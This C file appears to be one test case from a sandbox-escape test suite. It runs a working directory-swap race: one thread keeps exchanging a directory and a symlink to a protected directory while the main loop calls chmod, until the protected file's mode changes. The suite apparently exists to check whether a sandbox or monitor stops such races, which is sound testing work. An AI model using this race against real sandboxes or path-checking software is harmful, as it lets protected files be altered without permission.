/*
 * Vector 2: the directory-swap race on a call that is no open (chmod,
 * unlink, rename ... have no RESOLVE_NO_SYMLINKS). work/d flips between a
 * real directory holding a decoy victim.txt and a symlink to the protected
 * directory while the main thread chmods work/d/victim.txt: judged while d
 * is the real directory, run by the kernel after it became the symlink.
 * success = protected/victim.txt's mode changed.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>

static atomic_bool stop;
static char d[4096], lnk[4096];

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		renameat2(AT_FDCWD, lnk, AT_FDCWD, d, RENAME_EXCHANGE);
	return NULL;
}

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	struct stat st;
	mode_t before;

	snprintf(d, sizeof(d), "%s/d", esc_work());
	snprintf(lnk, sizeof(lnk), "%s/linkdir", esc_work());
	if (stat(victim, &st) < 0)
		esc_broken("stat %s: %s", victim, strerror(errno));
	before = st.st_mode & 07777;
	if (mkdir(d, 0755) < 0)
		esc_broken("mkdir: %s", strerror(errno));
	int fd = open(esc_fmt("%s/victim.txt", d), O_WRONLY | O_CREAT, 0644);
	if (fd < 0)
		esc_broken("decoy");
	close(fd);
	if (symlink(esc_protected(), lnk) < 0)
		esc_blocked("symlink: %s", strerror(errno));
	pthread_t t;
	pthread_create(&t, NULL, swapper, NULL);
	const char *target = esc_fmt("%s/victim.txt", d);
	double end = esc_now() + 5;
	long tries = 0;
	mode_t m = before ^ 0100;
	while (esc_now() < end) {
		tries++;
		chmod(target, m);
		if (stat(victim, &st) == 0 && (st.st_mode & 07777) != before) {
			atomic_store(&stop, true);
			esc_success("chmod reached protected/victim.txt through a swapped directory after %ld tries", tries);
		}
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("protected/victim.txt kept its mode in %ld tries", tries);
}
